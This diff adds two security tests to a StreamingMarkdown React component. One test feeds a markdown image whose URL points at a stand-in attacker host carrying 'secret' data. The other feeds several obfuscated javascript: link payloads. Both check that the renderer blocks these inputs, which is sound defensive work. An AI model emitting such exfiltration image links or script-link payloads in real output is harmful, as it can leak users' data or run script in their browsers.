@@ -67,6 +67,25 @@ describe("StreamingMarkdown", () => {
     expect(container.querySelector("img")).toBeNull();
   });
 
+  it("names an image instead of loading it", () => {
+    const { container } = render(
+      <StreamingMarkdown text={"Look: ![the chart](https://evil.example/c?d=secret)"} streaming={false} />,
+    );
+    expect(container.querySelector("img")).toBeNull();
+    expect(screen.getByText("Image not shown: the chart (evil.example)")).toHaveAttribute(
+      "title",
+      "https://evil.example/c?d=secret",
+    );
+  });
+
+  it("drops script links, however they are written", () => {
+    const text = "[a](javascript:alert(1)) [b](JaVaScRiPt&#58;alert(2)) [c][r]\n\n[r]: javascript:alert(3)";
+    const { container } = render(<StreamingMarkdown text={text} streaming={false} />);
+    const hrefs = [...container.querySelectorAll("a")].map((a) => a.getAttribute("href") ?? "");
+    expect(hrefs).toHaveLength(3);
+    for (const href of hrefs) expect(href.toLowerCase()).not.toContain("javascript");
+  });
+
   it("resolves a reference link defined in a later block once the answer is complete", () => {
     const text = "See [the docs][docs].\n\nMore text.\n\n[docs]: https://example.com/docs";
     const { rerender } = render(<StreamingMarkdown text={text} />);
